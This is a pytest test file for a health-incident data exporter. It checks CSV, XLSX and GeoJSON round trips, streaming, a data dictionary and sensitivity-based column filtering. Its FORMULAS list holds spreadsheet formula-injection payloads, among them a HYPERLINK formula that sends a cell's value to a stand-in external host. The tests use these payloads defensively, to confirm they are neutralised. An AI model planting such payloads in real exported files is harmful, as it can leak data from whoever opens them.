"""Export writers (carewatch_core.exports): round trips, formula injection, streaming, dictionary."""

from __future__ import annotations

import csv
import datetime
import io
import json
from collections.abc import Iterator
from dataclasses import replace

import openpyxl
import pytest

from carewatch_core.exports import (
    Column,
    Kind,
    columns_for,
    csv_chunks,
    dictionary_rows,
    geojson_chunks,
    neutralise,
    read_csv,
    read_geojson,
    read_xlsx,
    restore,
    write_xlsx,
)
from carewatch_core.exports.columns import DICTIONARY_COLUMNS, DICTIONARY_HEADER
from carewatch_core.exports.reading import unescape_ooxml
from carewatch_core.sensitivity import Level, Scope

COLUMNS = (
    Column("reference", "Reference", Kind.TEXT, "incident", "reference", "#event+id"),
    Column("date_start", "Date", Kind.DATE, "incident", "date_start", "#date+start"),
    Column(
        "adm1_name_ar",
        "Governorate (Arabic)",
        Kind.TEXT,
        "incident",
        "governorate",
        "#adm1+name+i_ar",
    ),
    Column("attack_types", "Attack types", Kind.LIST, "incident", "attack_types", "#event+type"),
    Column(
        "killed_hw",
        "Health workers killed",
        Kind.INTEGER,
        "incident",
        "counts",
        "#affected+healthworker+killed",
    ),
    Column("lat", "Latitude", Kind.NUMBER, "incident", "public_location", "#geo+lat"),
    Column("lon", "Longitude", Kind.NUMBER, "incident", "public_location", "#geo+lon"),
    Column("generated", "Generated", Kind.BOOLEAN, "incident", "is_generated", "#meta+generated"),
    Column("title", "Summary", Kind.TEXT, "incident", "title", "#description+title"),
)
FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "'=already quoted",
    "'plain quote",
]
ROWS = [
    {
        "reference": "CW-2017-0001",
        "date_start": datetime.date(2017, 9, 19),
        "adm1_name_ar": "إدلب",
        "attack_types": ["heavy_weapons", "fire"],
        "killed_hw": 2,
        "lat": 35.9,
        "lon": -36.5,
        "generated": False,
        "title": 'Airstrike, "quoted"; with, commas\nand a new line',
    },
    {
        "reference": "CW-2017-0002",
        "date_start": datetime.date(2017, 9, 20),
        "adm1_name_ar": "حلب",
        "attack_types": [],
        "killed_hw": None,
        "lat": None,
        "lon": None,
        "generated": True,
        "title": "",
    },
    {
        "reference": "CW-2017-0003",
        "date_start": datetime.date(2018, 1, 1),
        "adm1_name_ar": "",
        "attack_types": ["unknown"],
        "killed_hw": 0,
        "lat": -0.5,
        "lon": 0.25,
        "generated": False,
        "title": "x",
    },
    *(
        {
            "reference": f,
            "date_start": datetime.date(2019, 2, 3),
            "adm1_name_ar": f,
            "attack_types": ["other"],
            "killed_hw": -3,
            "lat": 1.0,
            "lon": 2.0,
            "generated": False,
            "title": f,
        }
        for f in FORMULAS
    ),
]


def _expected(rows: list[dict[str, object]]) -> list[dict[str, object]]:
    """Blank text reads back as unknown (None): a CSV cannot tell "" from no value."""
    return [{k: (None if v == "" else v) for k, v in row.items()} for row in rows]


def _xlsx(columns: tuple[Column, ...], rows: list[dict[str, object]]) -> bytes:
    out = io.BytesIO()
    write_xlsx(
        out,
        columns,
        rows,
        dictionary=list(dictionary_rows(columns)),
        dictionary_columns=DICTIONARY_COLUMNS,
    )
    return out.getvalue()


# Round trips: export the values, parse them back, get the same values.


@pytest.mark.parametrize("bom", [False, True])
def test_csv_round_trips_every_value(bom: bool) -> None:
    data = b"".join(csv_chunks(COLUMNS, ROWS, bom=bom))
    assert data.startswith("\ufeff".encode()) is bom
    assert read_csv(data, COLUMNS) == _expected(ROWS)


def test_hxl_csv_has_a_hashtag_row_and_round_trips() -> None:
    data = b"".join(csv_chunks(COLUMNS, ROWS, hxl=True))
    lines = list(csv.reader(io.StringIO(data.decode())))
    assert lines[0] == [c.name for c in COLUMNS]
    assert lines[1] == [c.hxl for c in COLUMNS]
    assert read_csv(data, COLUMNS, hxl=True) == _expected(ROWS)


def test_xlsx_round_trips_every_value() -> None:
    back = read_xlsx(io.BytesIO(_xlsx(COLUMNS, ROWS)), COLUMNS)
    assert back == _expected(ROWS)


def test_geojson_round_trips_every_value_with_points_in_lon_lat_order() -> None:
    data = b"".join(geojson_chunks(COLUMNS, ROWS, members={"license": "CC-BY-4.0"}))
    collection = json.loads(data)
    assert collection["type"] == "FeatureCollection" and collection["license"] == "CC-BY-4.0"
    assert collection["features"][0]["geometry"] == {"type": "Point", "coordinates": [-36.5, 35.9]}
    assert collection["features"][1]["geometry"] is None  # unknown point: no geometry, not 0/0
    assert "lat" not in collection["features"][0]["properties"]
    assert read_geojson(data, COLUMNS) == ROWS  # JSON keeps "" apart from null


# Formula injection (OWASP): text is made inert, numbers are untouched.


@pytest.mark.parametrize("text", FORMULAS)
def test_risky_text_gets_a_leading_quote_in_csv(text: str) -> None:
    data = b"".join(csv_chunks(COLUMNS[:1], [{"reference": text}])).decode()
    cell = list(csv.reader(io.StringIO(data)))[1][0]
    assert cell == "'" + text
    assert f"\"'{text[:1]}" in data  # quoted, and the quote comes first


def test_negative_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    data = b"".join(
        csv_chunks(
            COLUMNS, [{"killed_hw": -3, "lat": -0.5, "title": "Hospital 2-B", "reference": "a-b"}]
        )
    ).decode()
    line = data.splitlines()[1]
    assert ",-3," in line and ",-0.5," in line
    assert '"Hospital 2-B"' in line and '"a-b"' in line


def test_neutralise_and_restore_are_inverse_and_cover_the_owasp_characters() -> None:
    for text in [*FORMULAS, "", "plain", "'", "a=b", "٣٤"]:
        assert restore(neutralise(text)) == text
    for trigger in "=+-@\t\r":
        assert neutralise(trigger + "x") == "'" + trigger + "x"
    assert neutralise("a=1") == "a=1"


def test_xlsx_stores_risky_text_as_quoted_strings_never_formulas() -> None:
    book = openpyxl.load_workbook(io.BytesIO(_xlsx(COLUMNS, ROWS)))
    sheet = book["data"]
    cells = [row[0] for row in sheet.iter_rows(min_row=5)]
    assert [unescape_ooxml(c.value) for c in cells] == FORMULAS  # the value itself is kept exactly
    assert all(c.data_type == "s" for c in cells)  # a string, never a formula ("f")
    assert [c.quotePrefix for c in cells] == [not text.startswith("'") for text in FORMULAS]
    killed = [row[4] for row in sheet.iter_rows(min_row=5)]
    assert all(
        c.data_type == "n" and c.value == -3 for c in killed
    )  # a negative number stays a number


# Streaming: rows are pulled as the file is written, in batches.


def _counting(n: int, pulled: list[int]) -> Iterator[dict[str, object]]:
    for i in range(n):
        pulled.append(i)
        yield {"reference": f"CW-{i}", "killed_hw": i, "date_start": datetime.date(2020, 1, 1)}


@pytest.mark.parametrize("writer", [csv_chunks, geojson_chunks])
def test_writers_stream_in_batches_without_reading_every_row_first(writer: object) -> None:
    pulled: list[int] = []
    chunks = writer(COLUMNS, _counting(5000, pulled), batch=500)  # type: ignore[operator]
    first = next(chunks)
    assert len(pulled) <= 501 and first
    rest = list(chunks)
    assert len(pulled) == 5000 and len(rest) >= 9


def test_xlsx_writes_thousands_of_rows() -> None:
    pulled: list[int] = []
    out = io.BytesIO()
    assert write_xlsx(out, COLUMNS, _counting(5000, pulled)) == 5000
    back = read_xlsx(io.BytesIO(out.getvalue()), COLUMNS)
    assert len(back) == 5000 and back[-1]["killed_hw"] == 4999


# The dictionary and the file come from one declaration.


def test_the_dictionary_lists_exactly_the_exported_columns() -> None:
    rows = list(dictionary_rows(COLUMNS))
    assert [r["field"] for r in rows] == [c.name for c in COLUMNS]
    assert rows[0] == {
        "field": "reference",
        "label": "Reference",
        "type": "text",
        "sensitivity": "public",
        "hxl": "#event+id",
        "description": "",
    }
    assert rows[-1]["sensitivity"] == "internal"  # incident.title
    book = openpyxl.load_workbook(io.BytesIO(_xlsx(COLUMNS, ROWS)), read_only=True)
    sheet_rows = list(book["dictionary"].iter_rows(values_only=True))
    assert sheet_rows[0] == DICTIONARY_HEADER
    assert [r[0] for r in sheet_rows[1:]] == [c.name for c in COLUMNS]


def test_columns_for_a_reader_follow_the_sensitivity_table_and_never_carry_restricted_values() -> (
    None
):
    exact = Column("exact_lat", "Exact latitude", Kind.NUMBER, "incident", "exact_lat")
    columns = (*COLUMNS, exact)
    assert "title" not in [c.name for c in columns_for(columns, Level.PUBLIC)]
    assert "title" in [c.name for c in columns_for(columns, Level.INTERNAL)]
    assert exact.sensitivity is Level.RESTRICTED
    assert exact not in columns_for(columns, Level.RESTRICTED)
    name = Column("name", "Name", Kind.TEXT, "person", "name_latin")
    assert name not in columns_for((name,), Level.INTERNAL)
    cleared = Column("name", "Name", Kind.TEXT, "person", "name_latin", scope=Scope(cleared=True))
    assert cleared in columns_for((cleared,), Level.PUBLIC)
    family = Column("f", "Family", Kind.TEXT, "person", "family_details", scope=Scope(cleared=True))
    assert family not in columns_for((family,), Level.INTERNAL)
    district = Column("d", "District", Kind.TEXT, "incident", "district")
    assert district not in columns_for((district,), Level.PUBLIC)
    at_district = replace(district, scope=Scope(public_level=2))
    assert at_district in columns_for((at_district,), Level.PUBLIC)
